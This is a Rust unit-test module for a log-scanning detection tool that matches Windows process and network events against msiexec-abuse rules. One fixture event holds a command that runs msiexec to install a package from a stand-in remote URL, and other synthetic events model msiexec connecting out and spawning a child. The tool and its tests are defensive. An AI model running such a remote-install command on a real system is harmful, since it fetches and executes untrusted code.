}

#[cfg(test)]
mod tests {
    use super::*;

    use std::path::PathBuf;

    /// Records matches as (location, rule name), and the reports.
    #[derive(Default)]
    struct Collect(Vec<(Location, &'static str)>, String);

    impl Sink for Collect {
        fn on_match(&mut self, m: &Match<'_>) -> io::Result<()> {
            self.0.push((m.at, m.rule.name));
            Ok(())
        }
        fn report(&mut self, problem: fmt::Arguments<'_>) {
            self.1.push_str(&format!("detect: {problem}\n"));
        }
    }

    fn lines(hits: &[(Location, &'static str)]) -> Vec<(u64, &'static str)> {
        hits.iter()
            .map(|(at, rule)| match at {
                Location::Line(n) => (*n, *rule),
                Location::Record(_) => panic!("not a line: {at:?}"),
            })
            .collect()
    }

    const HIT: &str = r#"{"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "CommandLine": "cmd /c msiexec /i http://x/y.msi"}"#;

    fn scan(input: &[u8], max_line_bytes: u64) -> (Vec<(u64, &'static str)>, Stats, String) {
        let mut scanner = Scanner::new(max_line_bytes);
        let mut sink = Collect::default();
        scanner.scan_reader(input, "mem", &mut sink).unwrap();
        (lines(&sink.0), scanner.stats, sink.1)
    }

    #[test]
    fn lines_are_numbered_from_one_and_blank_lines_skipped() {
        let input = format!("{HIT}\r\n\n   \r\n{{\"a\": 1}}\n{HIT}");
        let (hits, stats, diag) = scan(input.as_bytes(), 1 << 20);
        assert_eq!(
            hits,
            [(1, "msiexec_web_install"), (5, "msiexec_web_install")]
        );
        assert_eq!((stats.events, stats.matches, stats.malformed), (3, 2, 0));
        assert_eq!(stats.per_rule.iter().sum::<u64>(), 2);
        assert_eq!(diag, "");
    }

    #[test]
    fn malformed_lines_are_reported_and_skipped() {
        let mut bytes = b"{\"a\": \n[1]\n\xff{}\n".to_vec();
        bytes.extend_from_slice(HIT.as_bytes());
        let (hits, stats, diag) = scan(&bytes, 1 << 20);
        assert_eq!(hits, [(4, "msiexec_web_install")]);
        assert_eq!((stats.events, stats.malformed), (1, 3));
        let lines: Vec<&str> = diag.lines().collect();
        assert_eq!(lines.len(), 3, "{diag}");
        assert!(
            lines[0].starts_with("detect: mem:1: not a valid JSON object at byte "),
            "{diag}"
        );
        assert!(lines[1].starts_with("detect: mem:2: "), "{diag}");
        assert!(
            lines[2].contains("mem:3:") && lines[2].contains("invalid UTF-8"),
            "{diag}"
        );
    }

    #[test]
    fn overlong_lines_are_skipped_whole() {
        let long = format!("{{\"CommandLine\": \"{}\"}}", "x".repeat(100));
        let input = format!("{long}\n{HIT}\n{long}");
        let (hits, stats, diag) = scan(input.as_bytes(), HIT.len() as u64);
        assert_eq!(hits, [(2, "msiexec_web_install")]);
        assert_eq!((stats.events, stats.malformed), (1, 2));
        assert!(
            diag.starts_with("detect: mem:1: line is longer than"),
            "{diag}"
        );
        assert!(
            diag.contains("mem:3:") && diag.contains("--max-line-bytes"),
            "{diag}"
        );

        // A line of exactly the limit (newline not counted) is accepted.
        let (hits, _, diag) = scan(format!("{HIT}\n{HIT}").as_bytes(), HIT.len() as u64);
        assert_eq!(hits.len(), 2, "{diag}");
    }

    #[test]
    fn read_errors_count_the_input_as_unreadable() {
        struct Failing(usize);
        impl Read for Failing {
            fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
                if self.0 == 0 {
                    return Err(io::Error::other("disk on fire"));
                }
                self.0 -= 1;
                let line = format!("{HIT}\n");
                buf[..line.len()].copy_from_slice(line.as_bytes());
                Ok(line.len())
            }
        }
        let mut scanner = Scanner::new(1 << 20);
        let mut sink = Collect::default();
        let reader = BufReader::with_capacity(4096, Failing(2));
        scanner.scan_reader(reader, "f", &mut sink).unwrap();
        assert_eq!(sink.0.len(), 2);
        assert_eq!(scanner.stats.unreadable, 1);
        let diag = sink.1;
        assert!(
            diag.starts_with("detect: f: read error after line 2: disk on fire"),
            "{diag}"
        );
    }

    #[test]
    fn sequence_state_is_reused_and_reset_between_inputs() {
        let ev = |ts: u64, cat: &str, extra: &str| {
            format!(
                r#"{{"@timestamp": {ts}, "host": {{"os": {{"type": "windows"}}}}, "event": {{"category": ["{cat}"], "action": "{}"}}, {extra}}}"#,
                if cat == "network" {
                    "connection_attempted"
                } else {
                    "start"
                }
            )
        };
        let start = |ts, id: &str| {
            ev(
                ts,
                "process",
                &format!(
                    r#""process": {{"name": "msiexec.exe", "entity_id": "{id}", "args": ["msiexec.exe", "/V"]}}"#
                ),
            )
        };
        let conn = |ts, id: &str| {
            ev(
                ts,
                "network",
                &format!(r#""process": {{"name": "msiexec.exe", "entity_id": "{id}"}}"#),
            )
        };
        let child = |ts, id: &str| {
            ev(
                ts,
                "process",
                &format!(
                    r#""user": {{"id": "S-1-5-21-1"}}, "process": {{"name": "x.exe", "executable": "C:\\x.exe", "entity_id": "c-{id}", "parent": {{"name": "msiexec.exe", "entity_id": "{id}"}}}}"#
                ),
            )
        };
        let dir = std::env::temp_dir().join(format!("detect-cli-reset-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let write = |name: &str, lines: &[String]| {
            let path = dir.join(name);
            std::fs::write(&path, lines.join("\n")).unwrap();
            Input::File(path)
        };
        // Input a: two chains start, the first is evicted (capacity 1), the
        // second reaches stage 2. Input b: the child of a's second chain (must
        // not complete), then a whole chain of its own, and again one eviction.
        let a = write("a.ndjson", &[start(0, "p1"), start(1, "p2"), conn(2, "p2")]);
        let b = write(
            "b.ndjson",
            &[
                child(3, "p2"),
                start(4, "p3"),
                start(5, "p4"),
                conn(6, "p4"),
                child(7, "p4"),
            ],
        );
        let mut scanner = Scanner::new(1 << 20).with_sequence_capacity(1);
        let mut sink = Collect::default();
        scanner.scan_input(&a, "a", &mut sink).unwrap();
        // The state stays (emptied), and the next input reuses it.
        assert_eq!(
            scanner.sequences.as_ref().map(|s| s.pending(0)),
            Some(0),
            "kept and reset after the input"
        );
        assert_eq!(scanner.stats.sequences_evicted, 1);
        scanner.scan_input(&b, "b", &mut sink).unwrap();
        // Its counters restarted with the input: one more eviction, not two.
        assert_eq!(scanner.stats.sequences_evicted, 2);
        assert_eq!(
            lines(&sink.0),
            [(5, "msiexec_remote_file_execution")],
            "{}",
            sink.1
        );
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn missing_file_is_reported() {
        let mut scanner = Scanner::new(1 << 20);
        let input = Input::File(PathBuf::from("/nonexistent/detect-cli/events.ndjson"));
        let mut sink = Collect::default();
        scanner
            .scan_input(&input, &display_name(&input), &mut sink)
            .unwrap();
        assert_eq!(scanner.stats.unreadable, 1);
        let diag = sink.1;
        assert!(
            diag.starts_with("detect: /nonexistent/detect-cli/events.ndjson: cannot open: "),
            "{diag}"
        );
    }

    /// Counts this thread's heap allocations (the test binary's allocator).
    mod counting {
        use detect_test_support::counting_alloc::CountingAllocator;
        pub(super) use detect_test_support::counting_alloc::thread_allocations as allocations;

        #[global_allocator]
        static GLOBAL: CountingAllocator = CountingAllocator;
    }

    #[test]
    fn scanning_does_not_allocate_once_warm() {
        /// Counts matches without allocating.
        struct Count(u64);
        impl Sink for Count {
            fn on_match(&mut self, _: &Match<'_>) -> io::Result<()> {
                self.0 += 1;
                Ok(())
            }
            fn report(&mut self, _: fmt::Arguments<'_>) {}
        }
        let example = include_str!("../../../examples/events.ndjson");
        // The example's events in all three layouts.
        let events: Vec<&str> = example.lines().collect();
        assert!(events.iter().all(|l| JsonEvent::parse_str(l).is_ok()));
        assert_eq!(events.len(), 33);
        let input = (events.join("\n") + "\n").repeat(3);
        let mut scanner = Scanner::new(1 << 20);
        let mut sink = Count(0);
        scanner
            .scan_reader(input.as_bytes(), "warm-up", &mut sink)
            .unwrap();
        let before = counting::allocations();
        scanner
            .scan_reader(input.as_bytes(), "measured", &mut sink)
            .unwrap();
        let allocations = counting::allocations() - before;
        // 13 rule matches and one completed sequence (lines 31-33) per copy:
        // the sequence state (created during the warm-up, kept by
        // `scan_reader`) steps without allocating.
        assert_eq!(sink.0, 2 * 3 * 14);
        assert_eq!(scanner.stats.per_sequence, [2 * 3]);
        assert_eq!(
            allocations,
            0,
            "allocations while scanning {} events",
            3 * 32
        );
    }

    #[test]
    fn trims_only_the_line_end() {
        assert_eq!(trim_line_end(b"a\r\n"), b"a");
        assert_eq!(trim_line_end(b"a\n"), b"a");
        assert_eq!(trim_line_end(b"a\r"), b"a");
        assert_eq!(trim_line_end(b"a\n\n"), b"a\n");
        assert_eq!(display_name(&Input::Stdin), STDIN_NAME);
        assert_eq!(
            display_name(&Input::File(PathBuf::from("a\nb.ndjson"))),
            "a b.ndjson"
        );
        assert_eq!(Location::Line(3).to_string(), ":3");
        assert_eq!(Location::Record(7).to_string(), "#7");
    }
}
